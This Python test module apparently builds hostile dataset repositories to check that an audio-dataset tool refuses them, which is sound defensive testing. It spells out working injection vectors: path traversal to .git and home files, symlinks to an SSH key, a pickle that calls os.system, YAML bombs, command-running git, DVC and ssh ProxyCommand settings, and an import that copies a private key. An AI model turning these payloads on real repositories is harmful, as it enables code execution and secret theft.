"""Datasets of somebody who means harm: each is a sound dataset with one attack in its newest version.

    repo = prepare(sound, folder, ATTACKS["list names a path above"])

`sound` is the folder that `make` has filled. Commits are written object by object, so that they can hold what
git itself would refuse to add: files called `..` or `.git/config`, links, other repositories.
"""

from __future__ import annotations

import hashlib
import json
import os
import posixpath
import shutil
import stat
import subprocess
import zlib
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal, NamedTuple

from tests.builder import Repo, RepoFactory, tone

VERSION = "2.0.0"
"""The version with the attack; 1.0.0 is sound."""

MARK = "@mark@"
"""In what an attack writes: a file that only a program of the dataset's could make."""
VICTIM = "@victim@"
"""In what an attack writes: a file of the user's that is nobody else's business."""

SOUND = {"audio/a.wav": tone(0.05, pitch=300), "audio/b.wav": tone(0.05, pitch=400)}
NOTES = b"what the recordings are\n"
HEADER = """\
name: dataset
source: made by a test
usage: unrestricted
languages: [eng]
attachments:
  docs: {path: docs}
  extra: {path: extra}
schemes:
  mood: {dtype: str, labels: [calm, wild]}
tables:
  mood: {type: filewise, columns: {mood: {scheme_id: mood}}}
"""
TABLE = "file,mood\naudio/a.wav,calm\naudio/b.wav,wild\n"


class Git(NamedTuple):
    """A file as git has it: its mode, and what it holds."""

    mode: str
    data: bytes


def link(target: str) -> Git:
    """A symbolic link."""
    return Git("120000", target.encode())


def module(commit: str = "a" * 40) -> Git:
    """Another repository."""
    return Git("160000", commit.encode())


Change = str | bytes | Git | None
"""What a file of the next commit holds; None removes it."""
Changes = Mapping[str, Change]


@dataclass(frozen=True, slots=True)
class Lair:
    """Where an attack is prepared: the repository, and the folder of its objects beside it."""

    repo: Repo
    remote: Path
    words: Mapping[str, str]
    """What is put in for MARK and VICTIM."""

    def filled(self, text: str) -> str:
        """A text with the paths that it is about."""
        return _filled(text, self.words)

    def store(self, data: bytes, name: str = "") -> str:
        """Put an object into the remote, under its md5 or another name; the name."""
        data = _filled_bytes(data, self.words)
        md5 = name or md5_of(data)
        place = self.remote / "files" / "md5" / md5[:2] / md5[2:]
        place.parent.mkdir(parents=True, exist_ok=True)
        place.unlink(missing_ok=True)
        place.write_bytes(data)
        return md5

    def object(self, name: str) -> Path:
        """Where an object lies in the remote."""
        return self.remote / "files" / "md5" / name[:2] / name[2:]


Build = Callable[[Lair], Changes]

Outcome = Literal["refused", "no media", "no sound", "harmless"]
"""The whole version is refused; or only who wants its media; or who decodes them; or nothing comes of it."""


@dataclass(frozen=True, slots=True)
class Attack:
    """One way to do harm, and what has to come of it."""

    name: str
    build: Build
    outcome: Outcome
    says: str = ""
    """What the message, or a note where it is harmless, has to name: a regular expression."""
    kind: str = "paths that lead elsewhere"
    """What it is counted as."""


def make(folder: Path, template: Path) -> Path:
    """A sound dataset below a folder, with media, attachments of git and of DVC; its objects are pushed."""
    repo = RepoFactory(folder, template)()
    files = {"docs/paper.bib": "@article{}\n"}
    repo.commit(
        header=HEADER,
        tables={"mood": TABLE},
        files=files,
        media={**SOUND, "extra/notes.txt": NOTES},
        tag="v1.0.0",
    )
    repo.push()
    return folder


def prepare(sound: Path, folder: Path, attack: Attack, **words: str) -> Repo:
    """A copy of the sound dataset and its remote below a folder, with an attack as version 2.0.0.

    `mark` and `victim` are put in for MARK and VICTIM.
    """
    shutil.copytree(sound, folder, dirs_exist_ok=True, symlinks=True)
    repo = Repo(folder / "dataset")
    named = {f"@{name}@": text for name, text in words.items()}
    lair = Lair(repo, folder / "dataset.media", named)
    commit(
        repo.path,
        {_filled(path, named): _put_in(change, named) for path, change in attack.build(lair).items()},
    )
    return repo


def bare(repo: Repo) -> Path:
    """The same repository without a work tree, as a server has it, beside the other one."""
    target = repo.path.with_name(f"{repo.path.name}.git")
    shutil.copytree(repo.path / ".git", target, symlinks=True)
    settings = target / "config"
    settings.write_text(settings.read_text().replace("bare = false", "bare = true"))
    return target


def commit(repo: Path, changes: Changes, *, tag: str = f"v{VERSION}", message: str = "change") -> str:
    """A commit on top of `main`, with a tag, without a look at the work tree; its name.

    Paths may have any parts, also those that git would never add.
    """
    parent = (repo / ".git" / "refs" / "heads" / "main").read_text().strip()
    entries = {path: (mode, blob) for path, mode, blob in _entries(repo, parent)}
    for path, change in changes.items():
        if change is None:
            entries.pop(path)
        else:
            entries[path] = _entry(repo, change)
    who = "Mallory <mallory@example.org> 1704164645 +0000"
    text = f"tree {_tree(repo, entries)}\nparent {parent}\nauthor {who}\ncommitter {who}\n\n{message}\n"
    name = _object(repo, "commit", text.encode())
    for ref in ("heads/main", *([f"tags/{tag}"] if tag else [])):
        (repo / ".git" / "refs" / ref).write_text(f"{name}\n")
    return name


def md5_of(data: bytes) -> str:
    """The name of an object."""
    return hashlib.md5(data, usedforsecurity=False).hexdigest()


# -- what DVC writes ------------------------------------------------------------------------------


def pointer(
    name: str, md5: str, *, path: str = "", size: int | None = None, more: str = ""
) -> dict[str, Change]:
    """A pointer `<name>.dvc`, whose output may have another path; `more` are further lines of the output."""
    lines = [
        f"outs:\n- md5: {json.dumps(md5)}\n  hash: md5\n",
        f"  path: {json.dumps(path or name.rpartition('/')[2])}\n",
    ]
    lines += [f"  size: {size}\n"] if size is not None else []
    return {f"{name}.dvc": "".join(lines) + more}


def listing(entries: Iterable[tuple[str, str]]) -> bytes:
    """The directory object of a folder, from path in it and md5 of each file."""
    rows = [{"md5": md5, "relpath": path} for path, md5 in sorted(entries)]
    return json.dumps(rows, sort_keys=True).encode()


def folder_by_list(lair: Lair, name: str, entries: Sequence[tuple[str, str]]) -> dict[str, Change]:
    """A media folder without an index, of which its directory object says what is in it."""
    data = listing(entries)
    md5 = lair.store(data, md5_of(data) + ".dir")
    return {**pointer(name, md5), **_without_index(lair, name)}


def folder_by_index(
    lair: Lair, name: str, entries: Sequence[tuple[str, str]], *, format: str = "wav"
) -> dict[str, Change]:
    """A media folder whose index agrees with its pointer, as `audiodvc add` would have left it."""
    data = listing(entries)
    md5 = lair.store(data, md5_of(data) + ".dir")
    lines = [f"{_cell(f'{name}/{path}')},{object_},,{format},1,16000,16,0.05\n" for path, object_ in entries]
    first = "file,md5,size,format,channels,sampling_rate,bit_depth,duration\n"
    return {**pointer(name, md5), f"{name}.media.csv": first + "".join(lines)}


def folder_by_pointer(
    lair: Lair, name: str, entries: Sequence[tuple[str, str]], more: str = ""
) -> dict[str, Change]:
    """A media folder whose files stand in the pointer itself, as DVC writes it for remotes with versions."""
    rows = [f"  - relpath: {json.dumps(path)}\n    md5: {json.dumps(md5)}\n{more}" for path, md5 in entries]
    text = f"outs:\n- hash: md5\n  path: {name}\n  files:\n{''.join(rows)}"
    return {f"{name}.dvc": text, **_without_index(lair, name)}


def folder_by_lock(lair: Lair, path: str, md5: str) -> dict[str, Change]:
    """An output of a stage, which an attachment makes a part of the dataset."""
    del lair
    lock = f"schema: '2.0'\nstages:\n  make:\n    cmd: touch {MARK}\n    outs:\n"
    lock += f"    - path: {json.dumps(path)}\n      hash: md5\n      md5: {json.dumps(md5)}\n"
    stages = f"stages:\n  make:\n    cmd: touch {MARK}\n    outs:\n    - {json.dumps(path)}\n"
    header = HEADER.replace("{path: docs}", json.dumps({"path": path}))
    return {"dvc.lock": lock, "dvc.yaml": stages, "db.yaml": header}


def table_names(path: str) -> dict[str, Change]:
    """A table with a row more, of a file at that path."""
    return {"db.mood.csv": f"{TABLE}{_cell(path)},calm\n"}


def attachment_at(path: str) -> dict[str, Change]:
    """A header whose attachment is at a path."""
    return {"db.yaml": HEADER.replace("{path: docs}", json.dumps({"path": path}))}


def config(text: str) -> dict[str, Change]:
    """A configuration of DVC's, in the place of the sound one."""
    return {".dvc/config": text}


def _without_index(lair: Lair, name: str) -> dict[str, Change]:
    return {f"{name}.media.csv": None} if (lair.repo.path / f"{name}.media.csv").exists() else {}


def _cell(text: str) -> str:
    odd = any(mark in text for mark in ',"\r\n')
    return '"' + text.replace('"', '""') + '"' if odd else text


# -- the attacks ----------------------------------------------------------------------------------

A, B = (md5_of(data) for data in SOUND.values())
_ABOVE = "../.git/config"
_DEEP = "../../../../../home/.bashrc"

ODD_PATHS: Mapping[str, str] = {
    "above": _ABOVE,
    "far above": _DEEP,
    "in the middle": "x/../../y.wav",
    "absolute": "/tmp/hostile-absolute.wav",  # noqa: S108 - nothing may be written there
    "backslash": "..\\..\\x.wav",
    "drive": "C:x.wav",
    "stream": "a.wav:hidden",
    "nul": "a\0.wav",
    "escape": "a\x1b[2J.wav",
    "line feed": "a\n.wav",
    "empty part": "x//a.wav",
    "dot": "x/./a.wav",
    "empty": "",
    "slash at the end": "x/",
    "blank": "a.wav ",
    "url": "https://example.org/a.wav",
}
"""What a path must never be, whoever names it."""

TWINS: Mapping[str, tuple[str, str]] = {
    "letter case": ("x.wav", "X.wav"),
    "letter case of a folder": ("x/a.wav", "X/b.wav"),
    "unicode form": ("\u00e9.wav", "e\u0301.wav"),
    "folded letters": ("stra\u00dfe.wav", "STRASSE.wav"),
    "a file that is a folder": ("x.wav", "x.wav/b.wav"),
    "the same twice": ("x.wav", "x.wav"),
}
"""Pairs of paths that are one somewhere."""

ODD_NAMES: Mapping[str, str] = {
    "above": "../../x",
    "far above": "../../../../../home/.bashrc",
    "upper case": A.upper(),
    "short": A[:31],
    "long": A + "0",
    "folder": A + ".dir",
    "folder and above": A + ".dir/../../x",
    "empty": "",
    "line feed": A + "\n",
    "absolute": "/etc/passwd",
    "of another kind": "z" * 32,
}
"""What the name of an object must never be, where that of a file is wanted."""


def carriers(path: str) -> Mapping[str, Build]:
    """All that can name a path in a dataset, and has to name it as it is."""
    found: dict[str, Build] = {
        "list": lambda lair: folder_by_list(lair, "audio", [(path, A)]),
        "index": lambda lair: folder_by_index(lair, "audio", [(path, A)]),
        "pointer of files": lambda lair: folder_by_pointer(lair, "audio", [(path, A)]),
        "header": lambda _: attachment_at(path),
    }
    # A cell that is empty is missing; an output's path is what DVC would make of it.
    if path:
        found["table"] = lambda _: table_names(path)
    if posixpath.normpath(path) == path:
        found["pointer"] = lambda _: pointer("x", A, path=path)
        found["stage"] = lambda lair: folder_by_lock(lair, path, A)
    return found


def twin_carriers(one: str, other: str) -> Mapping[str, Build]:
    """All that can name two files of a folder."""
    both = [(one, A), (other, B)]
    return {
        "list": lambda lair: folder_by_list(lair, "audio", both),
        "index": lambda lair: folder_by_index(lair, "audio", both),
        "pointer of files": lambda lair: folder_by_pointer(lair, "audio", both),
        "pointers": lambda _: {**pointer("x", A, path=one), **pointer("y", B, path=other)},
    }


def name_carriers(name: str) -> Mapping[str, Build]:
    """All that can name the object of a file."""
    return {
        "list": lambda lair: folder_by_list(lair, "audio", [("a.wav", name)]),
        "index": lambda lair: folder_by_index(lair, "audio", [("a.wav", name)]),
        "pointer of files": lambda lair: folder_by_pointer(lair, "audio", [("a.wav", name)]),
        **({} if name.endswith(".dir") else {"pointer": lambda _: pointer("x", name)}),
    }


def _refused(name: str, says: str, build: Build, kind: str = "paths that lead elsewhere") -> Attack:
    return Attack(name, build, "refused", says, kind)


def _no_media(
    name: str, says: str, build: Build, kind: str = "objects with other bytes, or without end"
) -> Attack:
    return Attack(name, build, "no media", says, kind)


def _harmless(
    name: str, build: Build, says: str = "", kind: str = "stages, hooks and other programs"
) -> Attack:
    return Attack(name, build, "harmless", says, kind)


def _bombs(name: str, text: str, says: str) -> list[Attack]:
    """The same text in each file of YAML that a dataset has."""
    return [
        _refused(
            f"header is {name}",
            rf"db\.yaml.*{says}",
            lambda _: {"db.yaml": f"{HEADER}x: {text}"},
            "bombs and programs in YAML",
        ),
        _refused(
            f"pointer is {name}",
            r"audio\.dvc is no pointer",
            lambda _: {"audio.dvc": f"outs: {text}"},
            "bombs and programs in YAML",
        ),
        _harmless(
            f"settings and stages are {name}",
            lambda _: dict.fromkeys(("audiodvc.yaml", "dvc.yaml", "dvc.lock", "params.yaml"), f"x: {text}"),
            kind="bombs and programs in YAML",
        ),
    ]


def _link_attacks() -> list[Attack]:
    links = {
        "db.yaml": "header",
        "db.mood.csv": "table",
        "audio.dvc": "pointer",
        "audio.media.csv": "index",
        "erased.csv": "list of erasures",
        "extra.dvc": "pointer of an attachment",
    }
    found = [
        _refused(
            f"{what} is a link",
            rf"{path}.* is a symbolic link",
            _linked(path),
            "symbolic links",
        )
        for path, what in links.items()
    ]
    return [
        *found,
        _refused(
            "attachment is a link",
            "docs/paper.bib.* is a symbolic link",
            _linked_attachment,
            "symbolic links",
        ),
        _refused(
            "attachments are a link", "docs.* is a symbolic link", _linked_attachments, "symbolic links"
        ),
        _refused(
            "attachment is a repository",
            "docs/lib.* is another repository",
            lambda _: {"docs/lib": module()},
            "symbolic links",
        ),
        _harmless(
            "media folder is a link", lambda _: {"audio": link("../../../../../home")}, kind="symbolic links"
        ),
        _no_media(
            "configuration is a link",
            "no default DVC remote",
            lambda _: {".dvc/config": link(VICTIM)},
            "symbolic links",
        ),
        _harmless(
            "settings are links",
            lambda _: dict.fromkeys(("audiodvc.yaml", "dvc.yaml", "dvc.lock"), link(VICTIM)),
            kind="symbolic links",
        ),
    ]


def _linked(path: str) -> Build:
    return lambda _: {path: link(VICTIM)}


def _linked_attachment(_: Lair) -> Changes:
    return {"docs/paper.bib": link(VICTIM)}


def _linked_attachments(_: Lair) -> Changes:
    return {"docs/paper.bib": None, "docs": link("../../../../../home")}


def _path_attacks() -> list[Attack]:
    shown = r"'\.\./\.git/config'"
    return [
        _refused("list names a path above", shown, lambda lair: folder_by_list(lair, "audio", [(_ABOVE, A)])),
        _refused(
            "index names a path above",
            r"audio/\.\./\.git/config",
            lambda lair: folder_by_index(lair, "audio", [(_ABOVE, A)]),
        ),
        _refused(
            "pointer lists a path above, to be run",
            r"\.git/hooks/post-checkout",
            lambda lair: folder_by_pointer(
                lair,
                "audio",
                [("../.git/hooks/post-checkout", lair.store(b"#!/bin/sh\n"))],
                "    isexec: true\n",
            ),
        ),
        _refused("pointer is of a path above", r"'\.\./x'", lambda _: pointer("x", A, path="../x")),
        _refused("pointer is of the user's file", "is absolute", lambda _: pointer("x", A, path=VICTIM)),
        _refused("table names a path above", rf"db\.mood\.csv.*{shown}", lambda _: table_names(_ABOVE)),
        _refused(
            "table names the user's file", r"db\.mood\.csv.* is absolute", lambda _: table_names(VICTIM)
        ),
        _refused("attachment is above", r"attachment 'docs'.* '\.\.'", lambda _: attachment_at("../../home")),
        _refused("stage makes a path above", r"'\.\.'", lambda lair: folder_by_lock(lair, "../x", A)),
        _refused(
            "git has a file above", r"'\.\.'", lambda _: {"docs/../../x.txt": "x", **attachment_at("docs")}
        ),
        _refused(
            "git has a repository in an attachment",
            r"\.git",
            lambda _: {"docs/.git/config": f"[core]\nfsmonitor = touch {MARK}\n"},
        ),
        _refused(
            "files are one by letter case",
            r"X\.wav.*x\.wav|x\.wav.*X\.wav",
            lambda lair: folder_by_index(lair, "audio", [("X.wav", A), ("x.wav", B)]),
        ),
        _refused(
            "pickle takes the place of a table",
            r"db\.mood\.pkl",
            lambda lair: pointer("db.mood.pkl", lair.store(PICKLE)),
        ),
        _refused("pickle in a flavor's folder", r"d3b62a9b", _pickle_in_flavor),
        _refused("state in a flavor's folder", r"d3b62a9b", _state_in_flavor),
        _harmless(
            "pickle beside a table",
            lambda _: {"db.mood.pkl": PICKLE, "db.mood.parquet": PICKLE, "db.pkl": PICKLE},
            kind="pickles in the place of tables",
        ),
        _refused(
            "pickle is an attachment",
            r"db\.mood\.pkl",
            lambda _: {"db.mood.pkl": PICKLE, **attachment_at("db.mood.pkl")},
            "pickles in the place of tables",
        ),
    ]


def _pickle_in_flavor(lair: Lair) -> Changes:
    """Beside the tables of the default flavor, where audformat would unpickle it."""
    return {
        **folder_by_list(lair, "d3b62a9b", [("db.mood.pkl", lair.store(PICKLE))]),
        **attachment_at("d3b62a9b"),
    }


def _state_in_flavor(lair: Lair) -> Changes:
    """A note that the flavor is there already, and complete."""
    md5 = lair.store(b'{"schema": "audiodvc.flavor/v1"}')
    return {**folder_by_list(lair, "d3b62a9b", [(".audiodvc.json", md5)]), **attachment_at("d3b62a9b")}


class _Marks:
    """What makes a file when it is unpickled."""

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {MARK}",)


def _pickled() -> bytes:
    import pickle

    return pickle.dumps(_Marks(), protocol=0)  # as text, so that the name of the mark can be put in


PICKLE = _pickled()


def _object_attacks() -> list[Attack]:
    return [
        _refused(
            "object is called above",
            "audio.*no sound name",
            lambda _: {**pointer("audio", "../../x"), "audio.media.csv": None},
            "names of objects that are none",
        ),
        _refused(
            "object in a list is called above",
            "object name that is none.*'a.wav'",
            lambda lair: folder_by_list(lair, "audio", [("a.wav", "../../x")]),
            "names of objects that are none",
        ),
        _refused(
            "object in an index is called above",
            "audio/a.wav.*no sound name",
            lambda lair: folder_by_index(lair, "audio", [("a.wav", "../../x")]),
            "names of objects that are none",
        ),
        _refused(
            "object is in upper case",
            "audio/a.wav.*no sound name",
            lambda lair: folder_by_index(lair, "audio", [("a.wav", A.upper())]),
            "names of objects that are none",
        ),
        _refused(
            "object is a folder by name",
            "audio/a.wav.*no sound name",
            lambda lair: folder_by_pointer(lair, "audio", [("a.wav", A + ".dir")]),
            "names of objects that are none",
        ),
        _no_media(
            "object has other bytes",
            rf"audio/a\.wav: object {A} .*other bytes.*remote 'storage'",
            _other_bytes,
        ),
        _no_media("object is a pipe", rf"audio/a\.wav: object {A} .*remote 'storage'", _pipe),
        _no_media("object is a link to a device", rf"audio/a\.wav: object {A} .*remote 'storage'", _device),
        _no_media(
            "object is larger than it says", r"audio/a\.wav: object .*larger.*remote 'storage'", _larger
        ),
        _refused(
            "list has other bytes",
            r"object [0-9a-f]{32}\.dir.*other bytes.*remote 'storage'",
            _other_list,
            "objects with other bytes, or without end",
        ),
        _refused(
            "list is no list",
            r"directory object .* is no list",
            lambda lair: _raw_list(lair, b'{"a": 1}'),
            "objects with other bytes, or without end",
        ),
        _refused(
            "list nests deeply",
            r"directory object .* is no list",
            lambda lair: _raw_list(lair, b"[" * 200_000),
            "objects with other bytes, or without end",
        ),
        Attack("sound that is none", _broken_sound, "no sound", r"audio/a\.wav", "sounds that are none"),
    ]


def _other_bytes(lair: Lair) -> Changes:
    lair.store(SOUND["audio/a.wav"][:-1] + b"\x01", A)
    return {}


def _pipe(lair: Lair) -> Changes:
    lair.object(A).unlink()
    os.mkfifo(lair.object(A))
    return {}


def _device(lair: Lair) -> Changes:
    lair.object(A).unlink()
    lair.object(A).symlink_to("/dev/zero")
    return {}


def _larger(lair: Lair) -> Changes:
    entries = [("a.wav", A), ("b.wav", B)]
    changes = folder_by_list(lair, "audio", entries)
    return {**changes, **pointer("audio", md5_of(listing(entries)) + ".dir", size=100)}


def _other_list(lair: Lair) -> Changes:
    changes = folder_by_list(lair, "audio", [("a.wav", A)])
    lair.store(listing([("a.wav", B)]), md5_of(listing([("a.wav", A)])) + ".dir")
    return changes


def _raw_list(lair: Lair, data: bytes) -> Changes:
    return {**pointer("audio", lair.store(data, md5_of(data) + ".dir")), "audio.media.csv": None}


def _broken_sound(lair: Lair) -> Changes:
    """Noise, of which the index says that it is a sound."""
    noise = lair.store(b"RIFF" + bytes(range(256)) * 4)
    return folder_by_index(lair, "audio", [("a.wav", noise), ("b.wav", B)])


CONFIG = f"""\
[core]
    remote = storage
    hardlink_lock = true
    site_cache_dir = {VICTIM}
[cache]
    dir = {VICTIM}
    type = symlink
[db]
    pgsql = x
['remote "storage"']
    url = ../../dataset.media
    configpath = evil.conf
    credentialpath = {VICTIM}
    keyfile = {VICTIM}
    profile = evil
    ask_password = true
    ask_passphrase = true
    password_command = touch {MARK}
    bearer_token_command = touch {MARK}
    proxy_command = touch {MARK}
    credential_process = touch {MARK}
    ssl_verify = false
    verify = false
    version_aware = true
    worktree = true
"""
IGNORED = (
    "cache.dir configpath credentialpath keyfile profile ask_password password_command proxy_command".split()
)


def _config_attacks() -> list[Attack]:
    says = ".*".join(
        ["left out are the settings", r"cache\.dir", *(f"remote.storage.{key}" for key in IGNORED[1:3])]
    )
    return [
        _harmless(
            "configuration names files and programs",
            lambda _: {**config(CONFIG), "evil.conf": f"[profile evil]\ncredential_process = touch {MARK}\n"},
            says,
            "configurations that reach for files, programs and secrets",
        ),
        _harmless(
            "import of the user's file",
            _import,
            "stolen.txt is an import",
            "configurations that reach for files, programs and secrets",
        ),
        _harmless(
            "import from another repository",
            lambda lair: _import(lair, repo=True),
            "stolen.txt is an import",
            "configurations that reach for files, programs and secrets",
        ),
        _no_media(
            "remote is reached by a program",
            "remote.* of a kind that cannot be read|an address that is none",
            lambda lair: _elsewhere(lair, f"ssh://-oProxyCommand=touch {MARK}/x"),
            "configurations that reach for files, programs and secrets",
        ),
        _no_media(
            "remote is of an unknown kind",
            "remote.* of a kind that cannot be read",
            lambda lair: _elsewhere(lair, f"ext::touch://{MARK}"),
            "configurations that reach for files, programs and secrets",
        ),
        _no_media(
            "remote is the user's folder",
            "object .* is not there",
            lambda lair: _elsewhere(lair, "@home@"),
            "configurations that reach for files, programs and secrets",
        ),
    ]


def _import(lair: Lair, *, repo: bool = False) -> Changes:
    del lair
    source = "  repo:\n    url: https://example.org/x.git\n" if repo else ""
    text = f"deps:\n- path: {VICTIM}\n{source}outs:\n- path: stolen.txt\n"
    text += f"  hash: md5\n  md5: {A}\n  push: false\n"
    return {"stolen.txt.dvc": text}


def _elsewhere(lair: Lair, url: str) -> Changes:
    """The same dataset, with its objects at another place."""
    del lair
    return config(f"[core]\n    remote = storage\n['remote \"storage\"']\n    url = {url}\n")


def _program_attacks() -> list[Attack]:
    return [
        _harmless("stages with commands", _stages),
        _harmless("programs of git's", _git_programs),
        _harmless("hooks beside the repository", _hooks_beside),
        _harmless("programs in the settings beside the repository", _settings_beside),
        _harmless("settings of ours that reach out", _own_settings),
        _harmless("messages and names that steer a terminal", _escapes),
    ]


def _stages(_: Lair) -> Changes:
    stages = f"""\
vars: [params.yaml, {{x: "${{y}}"}}]
stages:
  plain: {{cmd: "touch {MARK}", always_changed: true, deps: [audio], outs: [made]}}
  many: {{foreach: [1, 2], do: {{cmd: "touch {MARK}"}}}}
  square: {{matrix: {{a: [1], b: [2]}}, cmd: "touch {MARK}"}}
  odd: {{cmd: ["touch {MARK}"], frozen: false, wdir: ../../.., params: [{{"{VICTIM}": [x]}}]}}
"""
    lock = f"schema: '2.0'\nstages:\n  plain: {{cmd: 'touch {MARK}', outs: "
    lock += f"[{{path: made, hash: md5, md5: {A}}}]}}\n"
    return {"dvc.yaml": stages, "dvc.lock": lock, "params.yaml": "y: 1\n", "sub/dvc.yaml": stages}


def _git_programs(_: Lair) -> Changes:
    attributes = "* filter=evil diff=evil merge=evil textconv\n*.wav filter=lfs diff=lfs merge=lfs -text\n"
    modules = f'[submodule "x"]\n\tpath = x\n\turl = ext::touch {MARK}\n'
    modules += '[submodule "-u"]\n\tpath = -u\n\turl = -u./x\n'
    hook = f"{{id: x, language: system, entry: 'touch {MARK}'}}"
    lfs = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 3\n"
    return {
        ".gitattributes": attributes,
        ".gitmodules": modules,
        "x": module(),
        ".lfsconfig": "[lfs]\n\turl = https://example.org/steal\n",
        "docs/large.bin": lfs,
        ".pre-commit-config.yaml": f"repos: [{{repo: local, hooks: [{hook}]}}]\n",
        ".githooks/post-checkout": Git("100755", f"#!/bin/sh\ntouch {MARK}\n".encode()),
    }


def _hooks_beside(lair: Lair) -> Changes:
    """What lies in `.git` of a repository that came as an archive."""
    git = lair.repo.path / ".git"
    (git / "hooks").mkdir(exist_ok=True)
    for name in _HOOKS:
        hook = git / "hooks" / name
        hook.write_text(lair.filled(f"#!/bin/sh\ntouch {MARK}\n"))
        hook.chmod(0o755)
    # The one setting of a repository that git obeys when somebody pushes to it.
    with (git / "config").open("a") as config_:
        config_.write(lair.filled(f"[core]\n\talternateRefsCommand = touch {MARK}\n"))
    return {}


def _settings_beside(lair: Lair) -> Changes:
    with (lair.repo.path / ".git" / "config").open("a") as config_:
        config_.write(lair.filled(_GIT_CONFIG))
    return {}


_HOOKS = (
    "post-checkout post-merge pre-push reference-transaction post-index-change post-receive update".split()
)
_GIT_CONFIG = f"""
[core]
	fsmonitor = touch {MARK}
	sshCommand = touch {MARK}
	pager = touch {MARK}
	editor = touch {MARK}
[filter "evil"]
	smudge = touch {MARK}
	clean = touch {MARK}
	process = touch {MARK}
	required = true
[diff "evil"]
	textconv = touch {MARK}
	command = touch {MARK}
[diff]
	external = touch {MARK}
[uploadpack]
	packObjectsHook = touch {MARK}
[credential]
	helper = "!touch {MARK}"
[gpg]
	program = touch {MARK}
[log]
	showSignature = true
[alias]
	rev-parse = "!touch {MARK}"
	ls-remote = "!touch {MARK}"
"""


def _own_settings(_: Lair) -> Changes:
    text = f"cache_root: {VICTIM}\nlinks: [symlink]\nhooks: {{post: 'touch {MARK}'}}\n"
    text += "remotes: [x]\nrepositories: []\n"
    flavors = f"flavors: {{../../x: {{format: wav}}, x: {{cmd: 'touch {MARK}'}}}}\n"
    return {"audiodvc.yaml": text + flavors, ".config/audiodvc/config.yaml": text, "config.yaml": text}


ESCAPES = "\x1b]0;owned\x07\x1b[2J\r"


def _escapes(lair: Lair) -> Changes:
    imported = _import(lair)["stolen.txt.dvc"]
    assert isinstance(imported, str)
    name = json.dumps(f"stolen{ESCAPES}.txt")
    return {f"a{ESCAPES}.dvc": imported.replace("stolen.txt", name), f"docs{ESCAPES}/x": "x"}


def _yaml_attacks() -> list[Attack]:
    laughs = "&a0 [x,x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"x{n}: &a{n} [{','.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12)
    )
    return [
        *_bombs("full of aliases", laughs, "alias"),
        *_bombs("nested deeply", "[" * 100_000, "nest"),
        *_bombs("an object of Python", f"!!python/object/apply:os.system ['touch {MARK}']\n", "python"),
        *_bombs("a number of many digits", "1:" * 5000 + "1\n", "cannot be read as int"),
        _refused(
            "header is too large",
            r"db\.yaml.*64",
            lambda _: {"db.yaml": f"{HEADER}x: |\n".encode() + b" y\n" * (24 * 2**20)},
            "files and cells that would fill the memory",
        ),
        _refused(
            "pointer is too large",
            r"audio\.dvc",
            lambda _: {"audio.dvc": b"#\n" * (33 * 2**20)},
            "files and cells that would fill the memory",
        ),
        _refused(
            "table has a huge cell",
            r"db\.mood\.csv.* 1 MiB",
            lambda _: {"db.mood.csv": TABLE + "audio/a.wav," + "x" * (2**20 + 1) + "\n"},
            "files and cells that would fill the memory",
        ),
        _refused(
            "table has a huge cell of many lines",
            r"db\.mood\.csv.* 1048576 ",
            lambda _: {"db.mood.csv": f'{TABLE}audio/a.wav,"' + f"{'x' * 8000}\n" * 150 + 'y"\n'},
            "files and cells that would fill the memory",
        ),
    ]


ATTACKS: Mapping[str, Attack] = {
    attack.name: attack
    for attack in (
        *_path_attacks(),
        *_link_attacks(),
        *_object_attacks(),
        *_config_attacks(),
        *_program_attacks(),
        *_yaml_attacks(),
    )
}
"""Every attack by its name."""


# -- the user, around whom nothing may change ------------------------------------------------------


@dataclass(frozen=True, slots=True)
class World:
    """The machine of a user: a home with secrets, a repository, a cache, and a folder to work in."""

    root: Path
    before: dict[str, object] = field(default_factory=dict)

    @classmethod
    def make(cls, root: Path) -> World:
        """A new one, with files that somebody could be after."""
        for name, text in _PRIVATE.items():
            path = root / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
            path.chmod(0o600)
        for name in ("cache", "cwd", "marks"):
            (root / name).mkdir(exist_ok=True)
        return cls(root)

    @property
    def home(self) -> Path:
        """Where the user's own files are."""
        return self.root / "home"

    @property
    def cache(self) -> Path:
        """Where alone something may be written."""
        return self.root / "cache"

    @property
    def victim(self) -> Path:
        """A file that is nobody's business."""
        return self.home / ".ssh" / "id_ed25519"

    @property
    def mark(self) -> Path:
        """A file that only a program of somebody else's would make."""
        return self.root / "marks" / "ran"

    @property
    def words(self) -> dict[str, str]:
        """What `prepare` puts into an attack."""
        return {"mark": str(self.mark), "victim": str(self.victim), "home": str(self.home)}

    def seen(self, *but: str) -> dict[str, object]:
        """Every file around the cache, with what it holds; but for what lies in some folders."""
        left_out = {"cache", *but}
        found: dict[str, object] = {}
        for folder, folders, files in os.walk(self.root):
            if folder == str(self.root):
                folders[:] = [name for name in folders if name not in left_out]
            for name in (*folders, *files):
                path = Path(folder, name)
                mode = path.lstat().st_mode
                found[str(path.relative_to(self.root))] = (mode, _held(path, mode))
        return found


_PRIVATE = {
    "home/.ssh/id_ed25519": "the key\n",
    "home/.bashrc": "# mine\n",
    "home/.gitconfig": "[user]\n\tname = Ada\n",
    "home/.aws/credentials": "[default]\naws_access_key_id = AKIASECRET\n",
    "home/.config/dvc/config": "",
    "work/.git/config": "[core]\n\tbare = false\n",
    "work/.git/hooks/keep": "",
    "work/db.yaml": "name: mine\n",
    "neighbours/objects/x": "x\n",
    ".git/config": "[core]\n\tbare = false\n",
    "x": "above\n",
}


def _held(path: Path, mode: int) -> object:
    if stat.S_ISLNK(mode):
        return path.readlink()
    return path.read_bytes() if stat.S_ISREG(mode) else None


# -- git, object by object -------------------------------------------------------------------------


def _put_in(change: Change, named: Mapping[str, str]) -> Change:
    match change:
        case Git(mode, data):
            return Git(mode, _filled_bytes(data, named))
        case bytes():
            return change if len(change) > 2**20 else _filled_bytes(change, named)
        case str():
            return _filled(change, named)
    return None


def _filled(text: str, named: Mapping[str, str]) -> str:
    for name, value in named.items():
        text = text.replace(name, value)
    return text


def _filled_bytes(data: bytes, named: Mapping[str, str]) -> bytes:
    for name, value in named.items():
        data = data.replace(name.encode(), value.encode())
    return data


class _Trees(dict[str, bytes]):
